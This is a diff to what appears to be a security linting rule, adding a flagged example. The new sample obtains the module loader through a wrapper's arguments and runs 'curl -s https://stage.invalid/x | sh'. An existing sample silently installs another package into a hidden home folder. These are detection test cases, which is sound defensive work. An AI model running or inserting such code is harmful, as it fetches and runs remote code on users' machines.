@@ -57,6 +57,10 @@ export default defineRule({
   examples: {
     flags: [
       {
+        title: 'the function around the file is asked for what loads modules',
+        code: `(function (own, load) {\n  load('child_process').exec('curl -s https://stage.invalid/x | sh');\n})(arguments[0], arguments[1]);`,
+      },
+      {
         title: 'a library that is loaded installs another into a hidden folder',
         code: `const { execSync } = require('child_process');\nconst folder = require('os').homedir() + '/.cache_files';\nexecSync('npm i other-client --prefix ' + folder);\nrequire(folder + '/node_modules/other-client');`,
       },
